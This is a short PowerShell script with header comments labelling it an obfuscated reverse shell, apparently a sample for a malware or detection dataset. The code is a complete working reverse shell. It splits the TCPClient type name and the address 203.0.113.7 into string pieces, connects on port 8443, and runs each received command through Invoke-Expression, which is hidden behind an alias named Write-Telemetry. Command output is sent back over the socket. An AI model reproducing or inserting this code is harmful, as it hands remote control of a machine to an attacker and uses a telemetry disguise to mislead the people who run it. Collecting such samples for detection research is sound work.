# description: Telemetry "listener" that builds a TCPClient type name by concatenation and runs received commands through an aliased iex.
# family: reverse-shell
# obfuscated: yes
Set-Alias -Name Write-Telemetry -Value ('Invoke-' + 'Expression')
$t = 'System.Net.' + 'Sockets.' + 'TCP' + 'Client'
$h = '203.0.113' + '.7'
$sock = New-Object -TypeName $t -ArgumentList $h, 8443
$io = $sock.GetStream()
$rd = New-Object System.IO.StreamReader($io)
$wr = New-Object System.IO.StreamWriter($io)
$wr.AutoFlush = $true
while ($sock.Connected) {
    $line = $rd.ReadLine()
    if ($null -eq $line) { break }
    $wr.WriteLine((Write-Telemetry $line 2>&1 | Out-String))
}
